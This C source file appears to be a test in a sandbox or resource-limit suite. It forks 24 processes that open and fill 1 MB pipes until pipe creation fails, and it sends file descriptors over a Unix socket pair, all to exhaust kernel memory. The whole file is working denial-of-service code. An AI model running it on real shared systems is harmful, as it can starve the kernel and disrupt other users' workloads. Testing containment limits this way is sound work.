/* Takes the kernel's memory: pipes as large as they may be, and sockets full of messages and of descriptors in flight. */
#include "report.h"
#include <sys/socket.h>

static char block[64 << 10];

static void fill(int file) {
    fcntl(file, F_SETFL, O_NONBLOCK);
    while (write(file, block, sizeof block) > 0)
        ;
}

static void pass(int socket, int file) {
    char control[CMSG_SPACE(sizeof file)] = {0};
    struct iovec data = {block, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof file);
    memcpy(CMSG_DATA(header), &file, sizeof file);
    sendmsg(socket, &message, MSG_DONTWAIT);
}

static void take_all(void) {
    for (int ends[2]; pipe(ends) == 0;) {
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        fill(ends[1]);
    }
}

int main(void) {
    int pair[2];
    for (int count = 0; count < 24; count++)
        if (fork() == 0) {
            take_all();
            pause();
        }
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0)
        for (int count = 0; count < 100; count++)
            pass(pair[0], pair[1]);
    take_all();
    usleep(500000);
    say("kernel memory", "taken");
}
